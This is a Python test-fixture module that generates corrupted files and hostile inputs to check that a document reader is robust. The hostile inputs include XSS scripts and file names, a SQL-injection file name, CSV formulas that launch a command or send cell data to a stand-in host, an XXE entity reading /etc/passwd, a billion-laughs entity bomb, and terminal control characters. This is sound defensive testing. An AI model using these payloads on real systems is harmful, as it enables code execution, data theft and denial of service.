# SPDX-License-Identifier: AGPL-3.0-or-later
"""Broken files and files that attack the reader: nothing here may hurt more than itself."""
from . import documents, packed, pages, pdf

BROKEN, HOSTILE = "损坏/", "可疑/"


def put_broken(tree, labels):
    whole = pdf.make(documents.CONTRACT_EN, {"Title": "cut"})
    tree.put(BROKEN + "cut.pdf", whole[:len(whole) * 2 // 3], "application/pdf", text="", states=("parse_error", "partial", "done"), note="cut at two thirds")
    archive = packed.make_zip([("one.txt", b"first member, whole\n" * 40), ("two.txt", b"second member, cut\n" * 40)])
    tree.put(BROKEN + "cut.zip", archive[:900], "application/zip", text="", states=("partial", "parse_error"), note="cut in the second member")
    tree.put(BROKEN + "bad.json", '{"name": "broken", "rows": [1, 2, {"a": \n', ["application/json", "text/plain"], text="", states=("partial", "parse_error", "done"))
    memo = pdf.make([["Memo in the wrong clothes", "kingfisher quarry ledger"]], {"Title": "memo"})
    tree.put(BROKEN + "memo.txt", memo, "application/pdf", text="Memo in the wrong clothes\nkingfisher quarry ledger", note="a PDF named .txt", lang="en")
    if tree.fonts:
        tree.put(BROKEN + "scan.jpg", pages.draw(["misnamed picture"], size=(400, 200)), "image/png", text="misnamed picture", states=("done", "partial"), note="a PNG named .jpg")
    tree.put(BROKEN + "empty.log", b"", "inode/x-empty", text="")
    tree.put(BROKEN + "random.bin", bytes(tree.rng("noise").randrange(256) for _ in range(2048)), "application/octet-stream", text="", states=("unsupported", "done"))
    tree.put(BROKEN + "mixed.txt", "первая строка в UTF-8\n".encode() + "вторая строка в windows-1251\n".encode("windows-1251"), "text/plain", text="", states=("done", "partial", "unsupported"), note="two charsets in one file, a line each: best read line by line")
    tree.link("最新报价.csv", "产品报价/报价表.csv")
    tree.link(BROKEN + "nowhere", "../../does/not/exist")


def put_hostile(tree, labels):
    script = "<script>document.title='hit'</script>"
    tree.put(HOSTILE + "payload.html", f"<!DOCTYPE html><html><head><title>x</title><meta http-equiv=\"refresh\" content=\"0;url=http://tracker.test/\">{script}</head>"
             "<body onload=\"alert(1)\"><p>visible heron paragraph</p><img src=\"http://tracker.test/pixel.gif\"><iframe src=\"file:///etc/passwd\"></iframe></body></html>\n",
             "text/html", text="visible heron paragraph", lang="en")
    tree.put(HOSTILE + "<img src=x onerror=alert(1)>.txt", f"name and text both attack {script}\n", "text/plain", lang="en")
    tree.put(HOSTILE + "'; DROP TABLE item; --.txt", "a name for a database\n", "text/plain", lang="en")
    tree.put(HOSTILE + "formula.csv", "name,value\n=cmd|'/C calc'!A0,1\n\"=HYPERLINK(\"\"http://tracker.test/?x=\"\"&A1)\",2\n@SUM(1+1),3\n", "text/csv",
             text="name value =cmd|'/C calc'!A0 1")
    tree.put(HOSTILE + "deep.json", "[" * 50000 + "]" * 50000, ["application/json", "text/plain"], text="", states=("partial", "parse_error", "done", "output_limit"), note="50,000 levels")
    lol = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY a \"lol\">\n" + "".join(
        f" <!ENTITY {chr(98 + i)} \"{('&' + chr(97 + i) + ';') * 10}\">\n" for i in range(9)) + "]>\n<lolz>&j;</lolz>\n"
    tree.put(HOSTILE + "laughs.xml", lol, ["application/xml", "text/xml"], text="", states=("done", "partial", "parse_error"), note="a billion laughs")
    tree.put(HOSTILE + "outside.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<r>before &x; after</r>\n", ["application/xml", "text/xml"],
             text="", states=("done", "partial", "parse_error"), note="an external entity")
    tree.put(HOSTILE + "controls.txt", "line one\x1b[2J\x07\nright\u202eot left\u202c\nzero\u200bwidth\n", "text/plain", text="", note="terminal and direction controls")
    packed.put_hostile(tree)
